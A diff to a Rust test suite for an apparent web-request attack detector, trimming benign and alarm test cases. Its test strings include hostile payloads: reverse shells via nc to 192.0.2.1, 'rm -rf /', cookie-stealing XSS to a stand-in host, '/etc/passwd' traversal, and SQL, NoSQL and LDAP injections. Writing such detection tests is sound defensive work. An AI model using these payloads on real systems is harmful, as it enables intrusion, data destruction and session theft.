@@ -27,13 +27,13 @@ fn loud_document(body: &str) -> Vec<Hit> {
     hits(&request).into_iter().filter(|hit| hit.score >= THRESHOLD).collect()
 }
 
-fn passes(queries: &[&str]) {
+pub(super) fn passes(queries: &[&str]) {
     for query in queries {
         assert!(loud(query).is_empty(), "{query}: {:?}", loud(query));
     }
 }
 
-fn alarms(kind: Kind, queries: &[&str]) {
+pub(super) fn alarms(kind: Kind, queries: &[&str]) {
     for query in queries {
         let told = loud(query).iter().filter(|hit| hit.kind == kind).count();
         assert_eq!(told, 2, "{query}: {:?}", loud(query));
@@ -258,30 +258,7 @@ fn words_and_units_that_look_like_code_stay_quiet() {
         "q=%3C%25%3D+title+%25%3E",
         "query=up%7Bpath%3D%22/etc/hosts%22%7D",
         "q=select+*+from+prices",
-        "q=../../contributing",
-        "s=..%2F..%2Fimg%2Flogo",
-        "q=curl+https://www.example.org/",
-        "wd=wget+http%3A//example.org",
-        "q=why+use+<script>&page=2",
-        "q=c%2B%2B+%7C%7C+java",
-        "q=ls+-la",
-        "message=Cannot+read+properties+of+null+(reading+'__proto__')",
-        "body=<p>Hi</p><img+src=\"/a.png\"+onerror=\"this.remove()\">",
-        "body=<img+src=\"/a.png\"+onerror=\"this.onerror=null;this.src='/b.png'\">",
-        "ref=/../",
-        "note=run:+ls+-la+/var/log+|+grep+error+>+out.txt",
-        "ask={\"filter\":{\"$gt\":7}}",
     ]);
-    alarms(
-        Kind::Xss,
-        &[
-            "body=<img+src=x+onerror=\"this.src='//h.example/'%2Bdocument.cookie\">",
-            "body=<img+src=x+onerror=\"this.remove();alert(1)\">",
-            "body=<img+src=x+onerror=this.remove()>",
-        ],
-    );
-    alarms(Kind::Nosql, &["ask={\"filter\":{\"$gt\":0}}", "name={\"$gt\":7}"]);
-    alarms(Kind::Traversal, &["q=../../../contributing", "q=../../etc/passwd", "doc=../../a"]);
     alarms(
         Kind::Sqli,
         &[
@@ -298,23 +275,7 @@ fn words_and_units_that_look_like_code_stay_quiet() {
             "q=select+*+from+prices+union+select+1,2",
         ],
     );
-    alarms(
-        Kind::Command,
-        &[
-            "q=rm+-rf+/",
-            "q=;busybox+nc+192.0.2.1+9+-e+sh",
-            "q=$(%3Ca.txt)",
-            "q=curl+http://example.org/a.sh",
-            "cmd=ls+-la",
-            "note=run:+x+of+it+|+nc+-e+/bin/sh+192.0.2.1+9",
-            "note=run:;cat+a.txt",
-            "q=ls+-la+/etc",
-            "q=a+||+id",
-            "q=curl+http://192.0.2.1",
-            "cmd=curl+http://example.org/",
-            "q=;curl+http://example.org/",
-        ],
-    );
+    alarms(Kind::Command, &["q=rm+-rf+/", "q=;busybox+nc+192.0.2.1+9+-e+sh", "q=$(%3Ca.txt)"]);
     alarms(Kind::Ldap, &["q=(|(cn%3D*)(userPassword%3Da*))", "uid=*)(|%26'", "q=*()|%26'"]);
 }
 
